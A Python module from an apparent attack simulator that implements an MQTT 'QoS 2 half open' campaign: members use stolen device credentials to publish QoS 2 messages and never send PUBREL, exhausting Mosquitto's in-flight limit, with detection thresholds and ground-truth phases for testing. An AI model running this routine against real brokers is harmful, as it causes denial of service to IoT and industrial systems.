"""QoS 2 half open: messages that are begun and never ended."""

from __future__ import annotations

from typing import ClassVar

from pydantic import Field

from simulator.attacks import frames
from simulator.attacks.base import Campaign, Threshold
from simulator.attacks.member import Member, Process
from simulator.attacks.options import RatedOptions
from simulator.core.campaigns import Control, PhaseTruth
from simulator.core.options import AttackOptions
from simulator.core.units import HOUR, Rate

USUAL_IN_FLIGHT = 20
"""Messages in flight that Mosquitto takes of a client unless told otherwise."""


class Qos2HalfOpenOptions(RatedOptions):
    """Options of the attack ``qos2_half_open``."""

    kind: str = "qos2_half_open"
    messages: int = Field(
        default=100, ge=1, le=5_000, description="Messages that each member begins, and never ends."
    )
    rate: Rate = Field(default=20.0, gt=0, le=1_000, description="Of them, a second of each member.")


class Qos2HalfOpen(Campaign[Qos2HalfOpenOptions]):
    """Publishes at QoS 2 and never answers with PUBREL, so that the broker has to keep each of them.

    They go to the topics of the device whose credentials were stolen, so that no other rule is in the way.
    """

    kind: ClassVar[str] = "qos2_half_open"
    summary: ClassVar[str] = "QoS 2 half open: PUBLISH without PUBREL, up to and past the in-flight cap."
    options: ClassVar[type[AttackOptions]] = Qos2HalfOpenOptions
    control: ClassVar[Control] = Control.IN_FLIGHT_LIMIT
    technique: ClassVar[str] = "T0814"
    robs_victim: ClassVar[bool] = True
    aims: ClassVar[int] = 1
    wall_time: ClassVar[bool] = True

    def threshold(self, options: Qos2HalfOpenOptions) -> Threshold:
        """Return the messages in flight that Mosquitto takes unless told otherwise."""
        return Threshold("in flight", "client_id", USUAL_IN_FLIGHT, HOUR)

    def intensity(self, options: Qos2HalfOpenOptions) -> float:
        """Return the messages a second of one client."""
        return options.rate

    def total(self, options: Qos2HalfOpenOptions) -> float:
        """Return the messages of one client."""
        return options.messages

    def phases(self, options: Qos2HalfOpenOptions, at: float, until: float) -> tuple[PhaseTruth, ...]:
        """Return the beginning of the messages and the time for which they stay open."""
        begun = min(at + options.messages / self.pace(options), until)
        return PhaseTruth("open", at, begun), PhaseTruth("hold", begun, until)

    def raid(self, member: Member[Qos2HalfOpenOptions]) -> Process:
        """Begin one message after the other over one connection, and keep it."""
        member.call()
        for _ in range(member.options.messages):
            yield member.beat(self.pace(member.options))
            if member.over:
                break
            message = member.as_victim(qos=2)
            publish = message[0]
            number, modern = member.packet_id(), member.ground.modern
            member.raw(frames.publish(publish.topic, publish.payload, 2, number, modern), message)
        yield member.rest()
        member.drop()


ATTACK = Qos2HalfOpen()
